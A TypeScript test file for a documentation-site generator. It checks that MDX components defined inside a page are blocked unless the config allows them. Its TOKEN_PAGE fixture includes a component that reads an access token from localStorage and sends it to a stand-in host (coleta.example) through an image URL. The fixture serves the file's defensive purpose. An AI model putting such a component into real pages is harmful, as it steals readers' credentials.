import { describe, expect, it } from 'vitest';
import { formatDiagnostic } from '../../../cli/core/diagnostics.ts';
import { compileSite } from '../../../cli/pipeline/compile-site.ts';
import { loadConfig } from '../../../cli/sources/config/load-config.ts';
import { editConfig, tempProject, type TempProject } from '../../helpers/temp-project.ts';

/**
 * Who may run code in the reader's browser (issue 39): components of the site's src/ and of npm packages are the
 * owner's code and run as islands; a component a page defines itself (`export const X = () => …`) is the page
 * writer's, and runs only when the config says `"mdx": { "inlineComponents": true }`.
 */
async function compile(project: TempProject) {
  const { site, diagnostics } = await compileSite(loadConfig('docs.config.json', project.dir), {
    drafts: false,
    cwd: project.dir,
  });
  const errors = diagnostics.filter((d) => d.severity === 'error');
  return { site, errors, problems: errors.map(formatDiagnostic) };
}

/** The islands fixture with the config's `mdx` as given (the fixture itself allows inline components). */
function islands(mdx: Record<string, unknown>): TempProject {
  const project = tempProject('islands');
  editConfig(project, (config) => (config.mdx = mdx));
  return project;
}

const REFUSED =
  "is a component this page defines, and a page's own components do not run in the reader's browser unless the site allows them";

/** A page that reads the access token, as a writer's component could. */
const TOKEN_PAGE = [
  '---',
  'title: Token',
  '---',
  "import Parte from './_parte.mdx';",
  '',
  'export const Token = () => <b>{localStorage.getItem("token")}</b>;',
  '',
  'export function Envia() {',
  '  return <img src={`https://coleta.example/?t=${localStorage.getItem("token")}`} />;',
  '}',
  '',
  '<Token />',
  '',
  'Outra vez: <Token />, e <Envia />.',
  '',
  '<Parte />',
  '',
].join('\n');

describe('inline components (mdx.inlineComponents)', () => {
  it('are refused by default: one error at the export of each one a page or partial uses, saying what to do, and no island', async () => {
    const project = islands({});
    project.write('docs/token.mdx', TOKEN_PAGE);
    project.write('docs/_parte.mdx', 'export const DaParte = () => <i>parte</i>;\n\n<DaParte />\n');
    const { site, errors, problems } = await compile(project);
    expect(problems.sort()).toEqual([
      `docs/_parte.mdx:1:1: <DaParte> ${REFUSED}: move DaParte to a file such as src/components/DaParte.jsx and import it (import DaParte from '@site/src/components/DaParte'), or set "mdx": { "inlineComponents": true } in docs.config.json (see SECURITY.md) (in the partial included at docs/token.mdx:16:1)`,
      // The fixture's own page defines one too.
      expect.stringMatching(/^docs\/componentes\.mdx:11:1: <Destaque> is a component this page defines/),
      expect.stringMatching(
        /^docs\/token\.mdx:6:1: <Token> is a component this page defines, .* \(see SECURITY\.md\)$/,
      ),
      expect.stringMatching(/^docs\/token\.mdx:8:1: <Envia> is a component this page defines/),
    ]);
    expect(new Set(errors.map((e) => e.code))).toEqual(new Set(['mdx-component']));
    expect(site).toBeUndefined();
  });

  it('leave the components of src/ and of npm packages running when off', async () => {
    const project = islands({});
    project.write(
      'docs/componentes.mdx',
      project
        .read('docs/componentes.mdx')
        .replace(/export const Destaque = [^;]*;\n/, '')
        .replace('<Destaque cor="#25c2a0">destaque em linha</Destaque>', 'destaque em linha'),
    );
    const { site, problems } = await compile(project);
    expect(problems).toEqual([]);
    expect(
      Object.values(site!.manifest.islands ?? {})
        .map((island) => island.name)
        .sort(),
    ).toEqual(['Cartao', 'Contador', 'Quadro', 'Quebra', 'Selo', 'SobreOSite']);
  });

  it('run as islands when the config turns them on', async () => {
    const project = islands({ inlineComponents: true });
    project.write('docs/token.mdx', TOKEN_PAGE);
    project.write('docs/_parte.mdx', 'export const DaParte = () => <i>parte</i>;\n\n<DaParte />\n');
    const { site, problems } = await compile(project);
    expect(problems).toEqual([]);
    const names = Object.values(site!.manifest.islands ?? {}).map((island) => island.name);
    expect(names).toEqual(expect.arrayContaining(['Token', 'Envia', 'DaParte', 'Destaque']));
    // The page's own code, in the site's scripts (the two components share a chunk).
    const scripts = [...site!.islandFiles!.values()].map((bytes) => new TextDecoder().decode(bytes)).join('\n');
    expect(scripts).toContain('localStorage.getItem("token")');
  });

  it('take a boolean, and a misspelt key is named', async () => {
    const project = islands({ inlineComponents: 'sim' });
    const wrongType = await compile(project).catch((error: Error) => error.message);
    expect(wrongType).toMatch(
      /docs\.config\.json:\d+:\d+: mdx\.inlineComponents: expected true or false, got the string "sim"/,
    );
    editConfig(project, (config) => (config.mdx = { inlineComponent: true }));
    const misspelt = await compile(project).catch((error: Error) => error.message);
    expect(misspelt).toMatch(/mdx\.inlineComponent: unknown key \(did you mean "inlineComponents"\?\)/);
  });
});
